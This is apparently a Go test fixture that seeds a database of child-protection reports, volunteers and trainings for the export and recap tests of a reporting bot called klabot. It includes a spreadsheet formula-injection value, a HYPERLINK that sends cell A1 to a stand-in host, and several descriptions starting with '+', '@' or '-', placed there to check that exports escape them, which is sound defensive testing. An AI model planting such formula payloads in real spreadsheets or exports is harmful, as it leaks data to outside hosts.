// Package exporttest seeds a database with a small month of reports,
// trainings and volunteers whose recap numbers were worked out by hand, for
// the tests of exports and recaps (bot/export, cmd/klabot).
package exporttest

import (
	"context"
	"fmt"
	"math/rand/v2"
	"path/filepath"
	"testing"
	"time"

	"klabot/store"
)

// WIB is the office's time zone.
var WIB = mustLoad("Asia/Pontianak")

func mustLoad(name string) *time.Location {
	loc, err := time.LoadLocation(name)
	if err != nil {
		panic(err)
	}
	return loc
}

// At is a time in WIB in 2026.
func At(month time.Month, day, hour, min int) time.Time {
	return time.Date(2026, month, day, hour, min, 0, 0, WIB)
}

// Places used by the seed.
const (
	KecBengkayang  = "61.07.04"
	DesaTirta      = "61.07.04.2003" // Tirta Kencana, Bengkayang
	KecSanggauLedo = "61.07.06"
	DesaLembang    = "61.07.06.2001" // Lembang, Sanggau Ledo
)

// Seeded is what the seed made, by name.
type Seeded struct {
	Reports   map[string]store.Report // R1..R6
	Trainings map[string]store.Training
	People    map[string]int64
	// Now is when the recap of November 2026 is made: every November
	// training has ended.
	Now time.Time
}

// Secrets that must never appear in an export of an anonymous report.
const (
	AnonName    = "Rahasia Anonim"
	AnonAddress = "5550001"
	NamedName   = "Budi Santoso"
	NamedPhone  = "6281234567890"
	// Formula is a story that would be a formula in a spreadsheet.
	Formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")"
)

// OpenSeeded makes a new database in a temporary folder, closed when the test
// ends, and seeds it.
func OpenSeeded(t testing.TB) (*store.DB, Seeded) {
	t.Helper()
	db, err := store.Open(context.Background(), filepath.Join(t.TempDir(), "klabot.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	return db, Seed(t, db)
}

// Seed fills db with the month described in the recap tests (see
// bot/export/recap_test.go for the hand-worked numbers).
func Seed(t testing.TB, db *store.DB) Seeded {
	t.Helper()
	s := Seeded{Reports: map[string]store.Report{}, Trainings: map[string]store.Training{}, People: map[string]int64{},
		Now: At(time.December, 1, 8, 0)}
	random := rand.NewChaCha8([32]byte{7})
	ctx := context.Background()
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	tx := func(fn func(tx *store.Tx) error) { t.Helper(); must(db.Tx(ctx, fn)) }
	person := func(tx *store.Tx, name, channel, address, role string, when time.Time) int64 {
		u, _, err := tx.UserByContact(store.Contact{Channel: channel, Address: address}, "id", when)
		must(err)
		u.Name, u.Role, u.ConsentAt = name, role, when
		must(tx.SaveUser(u))
		s.People[name] = u.ID
		return u.ID
	}
	oct1 := At(time.October, 1, 9, 0)
	tx(func(tx *store.Tx) error {
		person(tx, "Staf", "console", "staf", "", oct1)
		person(tx, AnonName, "telegram", AnonAddress, "warga", oct1)
		person(tx, NamedName, "whatsapp", NamedPhone, "warga", oct1)
		for _, v := range []struct {
			name, kec string
			when      time.Time
		}{
			{"V1", KecBengkayang, oct1}, {"V2", KecSanggauLedo, oct1},
			{"V3", KecBengkayang, At(time.November, 10, 9, 0)}, {"V4", KecBengkayang, At(time.December, 1, 9, 0)},
		} {
			id := person(tx, v.name, "console", v.name, "satgas", oct1)
			inv, err := tx.CreateInvite(store.RoleSatgas, v.kec, s.People["Staf"], random, v.when, time.Hour)
			must(err)
			_, err = tx.RedeemInvite(inv.Code, id, v.when)
			must(err)
		}
		for _, c := range []string{"A", "B", "C", "D"} {
			person(tx, "Anak "+c, "console", "anak"+c, "forum_anak", oct1)
		}
		person(tx, "E", "console", "e", "satgas", oct1)
		person(tx, "F", "console", "f", "warga", oct1)
		return nil
	})

	staff := s.People["Staf"]
	report := func(name string, r store.Report, at time.Time) {
		tx(func(tx *store.Tx) error {
			must(tx.CreateReport(&r, random, at))
			s.Reports[name] = r
			return nil
		})
	}
	status := func(name, to string, actor int64, role string, at time.Time) {
		tx(func(tx *store.Tx) error {
			_, err := tx.ChangeReportStatus(s.Reports[name].ID, to, actor, role, "catatan "+to, at)
			return err
		})
	}
	anon, named := s.People[AnonName], s.People[NamedName]
	// R1: named, child labour on a plantation; verified by volunteer V1,
	// referred and done within November: 7.0 days.
	report("R1", store.Report{Category: "bpta_sawit", KecCode: KecBengkayang, DesaCode: DesaTirta, Description: Formula,
		PlaceNote: "+62 kebun belakang", ChildrenCount: 2, ChildrenAge: "13-15 tahun", Anonymous: false, ReporterID: named,
		KLACluster: "V", KLAIndicator: "21"}, At(time.November, 3, 10, 0))
	status("R1", store.StatusAccepted, staff, store.RoleStaff, At(time.November, 3, 11, 0))
	tx(func(tx *store.Tx) error {
		return tx.AssignReport(s.Reports["R1"].ID, s.People["V1"], staff, At(time.November, 3, 12, 0))
	})
	status("R1", store.StatusVerified, s.People["V1"], store.RoleVolunteer, At(time.November, 5, 9, 0))
	status("R1", store.StatusReferred, staff, store.RoleStaff, At(time.November, 6, 9, 0))
	status("R1", store.StatusDone, staff, store.RoleStaff, At(time.November, 10, 10, 0))
	// R2: anonymous, same place and category; verified, still open.
	report("R2", store.Report{Category: "bpta_sawit", KecCode: KecBengkayang, DesaCode: DesaTirta, Description: "@anak kerja",
		Anonymous: true, ReporterID: anon, KLACluster: "V", KLAIndicator: "21"}, At(time.November, 12, 9, 0))
	status("R2", store.StatusAccepted, staff, store.RoleStaff, At(time.November, 12, 10, 0))
	status("R2", store.StatusVerified, staff, store.RoleStaff, At(time.November, 14, 9, 0))
	// R3: anonymous child marriage in Sanggau Ledo, rejected after 1.5 days.
	report("R3", store.Report{Category: "perkawinan_anak", KecCode: KecSanggauLedo, DesaCode: DesaLembang,
		Description: "-1 anak", Anonymous: true, ReporterID: anon, KLACluster: "II", KLAIndicator: "7"},
		At(time.November, 20, 8, 0))
	status("R3", store.StatusAccepted, staff, store.RoleStaff, At(time.November, 20, 9, 0))
	status("R3", store.StatusRejected, staff, store.RoleStaff, At(time.November, 21, 20, 0))
	// R4: made in October (not received in November), referred and done
	// in November: 10.0 days.
	report("R4", store.Report{Category: "kekerasan", KecCode: KecBengkayang, DesaCode: DesaTirta, Description: "kekerasan",
		Anonymous: true, ReporterID: anon, KLACluster: "V", KLAIndicator: "20"}, At(time.October, 25, 10, 0))
	status("R4", store.StatusAccepted, staff, store.RoleStaff, At(time.October, 26, 10, 0))
	status("R4", store.StatusVerified, staff, store.RoleStaff, At(time.October, 28, 10, 0))
	status("R4", store.StatusReferred, staff, store.RoleStaff, At(time.November, 2, 10, 0))
	status("R4", store.StatusDone, staff, store.RoleStaff, At(time.November, 4, 10, 0))
	// R5: the last evening of November in WIB (already 30 Nov in UTC too);
	// a pin, no village.
	report("R5", store.Report{Category: "bpta_tambang", KecCode: KecSanggauLedo, HasPin: true, Lat: 1.05, Lon: 109.6,
		Anonymous: true, ReporterID: anon, KLACluster: "V", KLAIndicator: "21"}, At(time.November, 30, 23, 30))
	// R6: just after midnight on 1 December WIB, still 30 November in UTC:
	// not November's.
	report("R6", store.Report{Category: "bpta_tambang", KecCode: KecSanggauLedo, Anonymous: true, ReporterID: anon,
		KLACluster: "V", KLAIndicator: "21"}, At(time.December, 1, 0, 30))

	nov1 := At(time.November, 1, 8, 0)
	training := func(name, program, kec string, start time.Time, capacity int, code string) {
		tx(func(tx *store.Tx) error {
			tr, err := tx.CreateTraining(store.Training{Program: program, Title: "Sesi " + name, KecCode: kec, Place: "Aula",
				StartsAt: start, EndsAt: start.Add(3 * time.Hour), Capacity: capacity, AttendanceCode: code}, nov1)
			s.Trainings[name] = tr
			return err
		})
	}
	training("T1", "forum_anak", KecBengkayang, At(time.November, 7, 9, 0), 10, "AAAAA1")
	training("T2", "wikapa", KecSanggauLedo, At(time.November, 15, 9, 0), 1, "AAAAA2")
	training("T3", "wikapa", KecSanggauLedo, At(time.November, 28, 9, 0), 10, "AAAAA3")
	training("T4", "forum_anak", KecBengkayang, At(time.December, 2, 9, 0), 10, "AAAAA4")
	training("T6", "forum_anak", KecBengkayang, At(time.November, 21, 9, 0), 10, "AAAAA6")
	register := func(training, who, desa string, age int) {
		tx(func(tx *store.Tx) error {
			_, err := tx.Register(store.Registration{TrainingID: s.Trainings[training].ID, UserID: s.People[who],
				FullName: who + " Lengkap", Age: age, DesaCode: desa, Phone: fmt.Sprintf("62811100%04d", s.People[who]),
				Answers: map[string]string{"guardian_ok": "yes"}}, nov1)
			return err
		})
	}
	attend := func(training, who string, by int64) {
		tr := s.Trainings[training]
		tx(func(tx *store.Tx) error {
			return tx.SetAttendance(tr.ID, s.People[who], true, by, tr.StartsAt.Add(10*time.Minute))
		})
	}
	register("T1", "Anak A", DesaTirta, 14)
	register("T1", "Anak B", DesaLembang, 15)
	register("T1", "Anak C", DesaTirta, 13)
	register("T1", "Anak D", DesaTirta, 12)
	tx(func(tx *store.Tx) error {
		_, err := tx.CancelRegistration(s.Trainings["T1"].ID, s.People["Anak D"], nov1)
		return err
	})
	attend("T1", "Anak A", 0)
	attend("T1", "Anak B", staff)
	register("T2", "V2", DesaLembang, 40)
	register("T2", "F", DesaLembang, 35) // waitlisted: one seat
	attend("T2", "V2", staff)
	register("T3", "E", DesaLembang, 30)
	tx(func(tx *store.Tx) error { return tx.CancelTraining(s.Trainings["T3"].ID, nov1) })
	register("T4", "Anak A", DesaTirta, 14)
	register("T6", "Anak A", DesaTirta, 14)
	attend("T6", "Anak A", 0)
	return s
}
